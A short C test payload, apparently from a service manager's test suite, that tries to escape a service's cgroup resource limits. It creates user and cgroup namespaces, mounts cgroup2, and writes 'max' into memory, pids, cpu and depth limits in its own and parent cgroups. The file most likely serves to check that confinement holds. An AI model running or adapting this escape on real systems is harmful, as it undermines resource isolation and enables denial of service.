/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A payload that wants to lift the limits of its service: it mounts cgroup2 where it has the right to, goes into a
 * cgroup below, and looks for those above from a cgroup namespace that begins there. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define PLACE "/tmp/cgroups"

static int write_to(const char *path, const char *text) {
        int fd = open(path, O_WRONLY), done = fd >= 0 && write(fd, text, strlen(text)) > 0;

        if (fd >= 0)
                close(fd);
        return done;
}

static void lift(void) {
        static const char *const values[][2] = {
                { "memory.max", "max" },       { "memory.high", "max" },
                { "memory.swap.max", "max" },  { "pids.max", "max" },
                { "cpu.max", "max" },          { "cpu.weight", "10000" },
                { "cgroup.max.depth", "max" }, { "cgroup.max.descendants", "max" },
        };
        static const char *const above[] = { "", "../", "../../" };
        char path[64];

        for (size_t i = 0; i < 3; i++)
                for (size_t j = 0; j < sizeof values / sizeof *values; j++) {
                        snprintf(path, sizeof path, "%s%s", above[i], values[j][0]);
                        write_to(path, values[j][1]);
                }
}

static int attack(void) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 || !write_to("/proc/self/setgroups", "deny") ||
            !write_to("/proc/self/uid_map", "0 0 1") || !write_to("/proc/self/gid_map", "0 0 1") ||
            (mkdir(PLACE, 0755) < 0 && errno != EEXIST) || mount("none", PLACE, "cgroup2", 0, NULL) < 0 ||
            chdir(PLACE) < 0) {
                perror("lift");
                return 1;
        }
        puts("mounted");
        lift();
        /* A health check's is below, too, if it is anywhere. */
        if ((mkdir("below", 0755) < 0 && errno != EEXIST) ||
            !(write_to("keyturn-health/cgroup.procs", "0") || write_to("below/cgroup.procs", "0")) ||
            unshare(CLONE_NEWCGROUP) < 0)
                perror("lift: below");
        lift();
        puts("tried");
        return 0;
}

int main(void) {
        setbuf(stdout, NULL);
        if (fork() == 0) {
                attack();
                for (;;)
                        pause();
        }
        for (;;)
                pause();
}
